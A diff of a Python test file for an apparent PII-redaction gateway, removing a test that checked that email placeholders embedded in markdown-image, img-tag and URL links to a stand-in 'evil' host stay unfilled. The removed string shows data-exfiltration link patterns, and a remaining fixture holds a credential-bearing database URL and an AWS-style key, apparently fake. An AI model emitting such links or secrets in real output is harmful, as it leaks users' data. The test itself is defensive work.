@@ -143,22 +143,6 @@ async def test_six_turns_with_tool_calls_keep_their_placeholders(
         assert later[: len(earlier)] == earlier
 
 
-ADDRESSES = "![x](http:/evil/[EMAIL_1]) <img src='\\\\evil/[EMAIL_1]'> https://[EMAIL_1]@evil/ but //server/[EMAIL_1]/"
-
-
-@pytest.mark.parametrize("path", PATHS)
-@pytest.mark.parametrize("size", [1, 7, 1_000])
-async def test_addresses_at_other_hosts_keep_placeholders_and_shares_get_values(
-    server: InProcessGateway, upstream: Upstream, path: str, size: int
-) -> None:
-    pieces = [ADDRESSES[at : at + size] for at in range(0, len(ADDRESSES), size)]
-    upstream.will(up.answer(up.completion(ADDRESSES)), up.stream(*up.text_stream(pieces)))
-    before, _, after = ADDRESSES.rpartition("[EMAIL_1]")
-    for stream in (False, True):
-        told = await told_by(server, path, f"I am {MAIL}", stream=stream)
-        assert told.text == before + MAIL + after
-
-
 OVERLAPPING = [
     "the db is postgres://app:tR4vel!ing77@db.posthaus.org:5432/shop, ok",
     "mail AKIA5QWERTZUIOPLKJHG@posthaus.org now",
